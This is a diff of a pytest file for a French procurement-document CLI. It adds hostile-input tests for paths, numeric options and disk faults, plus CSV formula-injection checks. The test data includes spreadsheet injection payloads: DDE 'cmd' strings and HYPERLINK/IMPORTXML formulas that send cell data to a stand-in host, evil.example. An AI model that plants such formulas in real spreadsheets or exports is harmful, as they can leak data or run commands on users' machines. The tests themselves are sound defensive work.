@@ -442,7 +442,7 @@ def test_a_full_disk_stops_the_balances_with_an_exact_count(small_disk, balance_
     failed = re.fullmatch(
         rf"Error: {out}/(bilan-P\d\d)\.(docx|manifest\.json): cannot be written \(No space left "
         r"on device\): free some space on that disk or write elsewhere \(-o\)\.\n"
-        rf"Error: {written} of 13 balances are written; writing stopped there, so the other "
+        rf"Error: {written} of 13 balances are written; writing stopped there, so "
         rf"{13 - written} are not\.\n",
         result.stderr,
     )
@@ -501,32 +501,43 @@ def _interrupt_when(command: list[str], ready: Callable[[], bool], env: dict[str
 
 
 def test_ctrl_c_during_the_balance_pdfs_says_what_was_written(tmp_path, fake_soffice):
-    out = tmp_path / "b"
+    """Interrupted while LibreOffice converts: the balances are written, no PDF yet; the
+    converter is stopped and its work folder removed."""
+    out, work = tmp_path / "b", tmp_path / "tmp"
+    work.mkdir()
     code, stdout, stderr = _interrupt_when(
         ["balance", str(OPERATION), *FOLLOW_UP, "-o", str(out), "--pdf"],
-        lambda: len(list(out.glob("*.pdf"))) >= 3,
-        {"PATH": f"{fake_soffice}{os.pathsep}{os.environ['PATH']}", "FAKE_SOFFICE_DELAY": "0.3"},
+        lambda: len(list(work.glob("clausegen-pdf-*/pdf/*.pdf"))) >= 2,
+        {
+            "PATH": f"{fake_soffice}{os.pathsep}{os.environ['PATH']}",
+            "FAKE_SOFFICE_DELAY": "0.5",
+            "TMPDIR": str(work),
+        },
     )
-    pdfs = len(list(out.glob("*.pdf")))
     assert (code, stdout) == (130, "")
     assert stderr == (
-        f"Error: interrupted (Ctrl-C); 13 end-of-mission balances and their manifests, and "
-        f"{pdfs} of their PDFs, were written in {out}; the others were not.\n"
+        "Error: interrupted (Ctrl-C); 13 end-of-mission balances and their manifests, and 0 "
+        f"of their PDFs, were written in {out}; the others were not.\n"
     )
-    assert 3 <= pdfs < 13
-    assert hidden(out) == []
+    assert len(list(out.glob("*.docx"))) == 13 and list(out.glob("*.pdf")) == []
+    assert hidden(out) == [] and list(work.iterdir()) == []
 
 
 def test_ctrl_c_during_the_tender_conversion_writes_nothing(tmp_path, fake_soffice):
-    out = tmp_path / "dce"
+    out, work = tmp_path / "dce", tmp_path / "tmp"
+    work.mkdir()
     code, stdout, stderr = _interrupt_when(
         ["tender", str(OPERATION), "-o", str(out), "--pdf"],
-        lambda: any(out.glob(".clausegen-*/.annexe/pdf/*.pdf")),
-        {"PATH": f"{fake_soffice}{os.pathsep}{os.environ['PATH']}", "FAKE_SOFFICE_DELAY": "0.3"},
+        lambda: any(work.glob("clausegen-pdf-*/pdf/*.pdf")),
+        {
+            "PATH": f"{fake_soffice}{os.pathsep}{os.environ['PATH']}",
+            "FAKE_SOFFICE_DELAY": "0.5",
+            "TMPDIR": str(work),
+        },
     )
     assert (code, stdout) == (130, "")
     assert stderr == "Error: interrupted (Ctrl-C); nothing was written.\n"
-    assert not out.exists()
+    assert not out.exists() and list(work.iterdir()) == []
 
 
 # --- 8. spreadsheet formula injection --------------------------------------------------------
@@ -568,3 +579,275 @@ def test_the_csv_parses_back_with_numbers_in_numeric_columns(tmp_path):
     result = run("calibrate", OPERATION, "--format", "csv")
     rows = list(csv.DictReader(io.StringIO(result.stdout)))
     assert all(Decimal(r["montant_ht"]) > 0 for r in rows)
+
+
+# --- the corpus: hostile cases of classes 5 to 8, generated, run through the CLI -------------
+
+COMMANDS: dict[str, tuple[list[str], list[str]]] = {
+    "tender": (["tender", str(OPERATION)], TENDER_FILES),
+    "commitment": (
+        ["commitment", str(OPERATION), "--lot", "4"],
+        ["engagement-lot-04.docx", "engagement-lot-04.manifest.json"],
+    ),
+    "commitment-company": (
+        ["commitment", str(OPERATION), "--lot", "4", "--company", COMPANY_4],
+        [
+            "engagement-lot-04-82345678500026.docx",
+            "engagement-lot-04-82345678500026.manifest.json",
+        ],
+    ),
+    "compliance": (
+        ["compliance", str(OPERATION), "--commitments", str(SAMPLE / "engagements"), *FOLLOW_UP],
+        [
+            "conformite-81234567600017.docx",
+            "conformite-81234567600017.manifest.json",
+            "conformite-82345678500026.docx",
+            "conformite-82345678500026.manifest.json",
+        ],
+    ),
+    "balance": (
+        ["balance", str(OPERATION), *FOLLOW_UP, "--participant", "P01"],
+        ["bilan-P01.docx", "bilan-P01.manifest.json"],
+    ),
+}
+"""Each document command (a quick form of it) and the files it writes."""
+
+FORMULA_TITLES = [
+    '=HYPERLINK("http://evil.example/?leak","x")',
+    "=cmd|' /C calc'!A0",
+    "+SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=1+1",
+    "+33 4 68 00 00 00",
+    "-10 %",
+    "@acheteur",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(A1)",
+    "   =1+1",
+    "\u00a0=1+1",
+    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
+]
+
+BAD_NUMBERS = {
+    "--pdf-timeout": [
+        "inf",
+        "-inf",
+        "nan",
+        "NaN",
+        "1e308",
+        "1e3",
+        "0",
+        "0.5",
+        "3601",
+        "-1",
+        "",
+        " 60",
+        "60 ",
+        "0x10",
+        "6_0",
+        "٣",
+        "６０",
+        "1/2",
+        "60s",
+        "9" * 400,
+    ],
+    "--jobs": ["0", "-1", "257", "1.5", "", "inf", "٢", "1" + "0" * 30, "0x2"],
+    "--lot": ["0", "-1", "10000", "1.0", "abc", "١", "9" * 400, "+4"],
+}
+
+
+def _path_cases() -> Iterator[tuple[str, str, Callable[[Path], tuple[list[str], Path]]]]:
+    """Class 5: output paths that cannot hold the outputs."""
+    for command, (argv, names) in COMMANDS.items():
+
+        def under_file(tmp: Path, argv: list[str] = argv) -> tuple[list[str], Path]:
+            (tmp / "plain").write_text("x")
+            return [*argv, "-o", str(tmp / "plain" / "out")], tmp / "plain" / "out"
+
+        def is_file(tmp: Path, argv: list[str] = argv) -> tuple[list[str], Path]:
+            (tmp / "out").write_text("x")
+            return [*argv, "-o", str(tmp / "out")], tmp / "out"
+
+        def long_name(tmp: Path, argv: list[str] = argv) -> tuple[list[str], Path]:
+            return [*argv, "-o", str(tmp / ("n" * 256))], tmp / ("n" * 256)
+
+        def long_path(tmp: Path, argv: list[str] = argv) -> tuple[list[str], Path]:
+            deep = tmp.joinpath(*["p" * 200] * 21)
+            return [*argv, "-o", str(deep)], tmp / ("p" * 200)
+
+        def broken_link(tmp: Path, argv: list[str] = argv) -> tuple[list[str], Path]:
+            (tmp / "out").symlink_to(tmp / "nowhere")
+            return [*argv, "-o", str(tmp / "out")], tmp / "out"
+
+        def empty(tmp: Path, argv: list[str] = argv) -> tuple[list[str], Path]:
+            return [*argv, "-o", ""], tmp / "never"
+
+        def nul(tmp: Path, argv: list[str] = argv) -> tuple[list[str], Path]:
+            return [*argv, "-o", f"{tmp}/o\0ut"], tmp / "o"
+
+        for kind, make in [
+            ("under-a-file", under_file),
+            ("is-a-file", is_file),
+            ("name-256", long_name),
+            ("path-4200", long_path),
+            ("broken-link", broken_link),
+            ("empty", empty),
+            ("nul", nul),
+        ]:
+            yield "5-paths", f"{command}-{kind}", make
+        for name in names:
+
+            def folder_in_place(
+                tmp: Path, argv: list[str] = argv, name: str = name
+            ) -> tuple[list[str], Path]:
+                (tmp / "out" / name).mkdir(parents=True)
+                (tmp / "out" / "kept.txt").write_text("earlier")
+                return [*argv, "-o", str(tmp / "out")], tmp / "out"
+
+            yield "5-paths", f"{command}-folder-named-{name}", folder_in_place
+
+
+def _option_cases() -> Iterator[tuple[str, str, Callable[[Path], tuple[list[str], Path]]]]:
+    """Class 6: numeric options out of bounds or not plain digits."""
+    for option, values in BAD_NUMBERS.items():
+        argv = {
+            "--pdf-timeout": COMMANDS["tender"][0],
+            "--jobs": COMMANDS["balance"][0],
+            "--lot": ["commitment", str(OPERATION)],
+        }[option]
+        for index, value in enumerate(values):
+
+            def make(
+                tmp: Path, argv: list[str] = argv, option: str = option, value: str = value
+            ) -> tuple[list[str], Path]:
+                return [*argv, option, value, "-o", str(tmp / "out")], tmp / "out"
+
+            yield "6-options", f"{option[2:]}-{index}", make
+
+
+def _fault_cases() -> Iterator[tuple[str, str, Callable[[Path], tuple[list[str], Path]]]]:
+    """Class 7: faults while writing: a file system that fails the moves (all commands),
+    and, as root, full and read-only disks."""
+    for command, (argv, _) in COMMANDS.items():
+        for code in (errno.EIO, errno.ENOSPC):
+
+            def failing_moves(
+                tmp: Path, argv: list[str] = argv, code: int = code
+            ) -> tuple[list[str], Path]:
+                (tmp / "out").mkdir()
+                (tmp / "out" / "kept.txt").write_text("earlier")
+                tmp.joinpath("FAIL_REPLACE").write_text(str(code))
+                return [*argv, "-o", str(tmp / "out")], tmp / "out"
+
+            yield "7-faults", f"{command}-move-{errno.errorcode[code]}", failing_moves
+        for size in (4096, 16384, 36864):
+
+            def full(tmp: Path, argv: list[str] = argv, size: int = size) -> tuple[list[str], Path]:
+                tmp.joinpath("MOUNT").write_text(f"size={size}")
+                return [*argv, "-o", str(tmp / "disk" / "out")], tmp / "disk" / "out"
+
+            yield "7-faults", f"{command}-full-{size}", full
+
+        def read_only(tmp: Path, argv: list[str] = argv) -> tuple[list[str], Path]:
+            tmp.joinpath("MOUNT").write_text("size=65536,ro")
+            return [*argv, "-o", str(tmp / "disk" / "out")], tmp / "disk" / "out"
+
+        yield "7-faults", f"{command}-read-only", read_only
+
+
+def _formula_cases() -> Iterator[tuple[str, str, Callable[[Path], tuple[list[str], Path]]]]:
+    """Class 8: lot titles a spreadsheet would run, through ``calibrate --format csv``."""
+    for index, title in enumerate(FORMULA_TITLES):
+
+        def make(tmp: Path, title: str = title) -> tuple[list[str], Path]:
+            operation = tmp / "operation.yaml"
+            operation.write_text(yaml.safe_dump(operation_data(intitule=title), allow_unicode=True))
+            return ["calibrate", str(operation), "--format", "csv"], tmp / "none"
+
+        yield "8-formulas", f"title-{index}", make
+
+
+CORPUS = [*_path_cases(), *_option_cases(), *_fault_cases(), *_formula_cases()]
+
+
+def test_the_corpus_covers_each_class_with_sixty_cases_or_more():
+    counts = {kind: sum(1 for k, _, _ in CORPUS if k == kind) for kind, _, _ in CORPUS}
+    assert counts == {"5-paths": 49, "6-options": 37, "7-faults": 30, "8-formulas": 18}
+    assert sum(counts.values()) >= 60
+
+
+@pytest.mark.parametrize(
+    ("kind", "make"), [(kind, make) for kind, _, make in CORPUS], ids=[n for _, n, _ in CORPUS]
+)
+def test_hostile_case(kind, make, tmp_path, monkeypatch):
+    """No traceback; every error names a file or the option; a failed command leaves its
+    output folder as it was (a failed balance of one participant writes nothing either)."""
+    argv, out = make(tmp_path)
+    mount = tmp_path / "MOUNT"
+    if mount.exists():
+        if os.geteuid() != 0:
+            pytest.skip("mounting a small file system needs root")
+        (tmp_path / "disk").mkdir()
+        options = mount.read_text()
+        read_only = options.endswith(",ro")
+        subprocess.run(
+            [
+                "mount",
+                "-t",
+                "tmpfs",
+                "-o",
+                options.removesuffix(",ro"),
+                "tmpfs",
+                str(tmp_path / "disk"),
+            ],
+            check=True,
+        )
+        if read_only:
+            subprocess.run(["mount", "-o", "remount,ro", str(tmp_path / "disk")], check=True)
+    fail_replace = tmp_path / "FAIL_REPLACE"
+    if fail_replace.exists():
+        monkeypatch.setattr(Path, "replace", _always(int(fail_replace.read_text())))
+    before = snapshot(out)
+    try:
+        result = run(*argv)
+    finally:
+        if mount.exists():
+            subprocess.run(["umount", str(tmp_path / "disk")], check=False)
+    no_traceback(result)
+    if kind == "8-formulas":
+        _assert_neutralised(result)
+        return
+    assert result.exit_code in (1, 2), result.output
+    errors = [line for line in result.stderr.splitlines() if line.startswith("Error: ")]
+    assert errors, result.stderr
+    first = errors[0]
+    assert (
+        str(tmp_path) in first
+        or first.startswith("Error: Invalid value for")
+        or (kind == "5-paths" and "'-o'" in first)
+    ), first
+    for line in errors[1:]:  # the summary of a batch of balances
+        assert re.fullmatch(r"Error: \d+ of \d+ balances .*", line), line
+    if not mount.exists():
+        assert snapshot(out) == before
+
+
+def _assert_neutralised(result) -> None:
+    """Accepted and neutralised, or refused with an error naming the operation file."""
+    if result.exit_code != 0:
+        assert result.exit_code == 1 and "operation.yaml" in result.stderr, result.stderr
+        return
+    rows = list(csv.reader(io.StringIO(result.stdout)))
+    for row in rows[1:]:
+        for value in row:
+            stripped = value.lstrip(" \u00a0\u202f")
+            assert not stripped or stripped[0] not in FORMULA_TRIGGERS or _is_number(value), value
+
+
+def _is_number(value: str) -> bool:
+    return re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", value) is not None
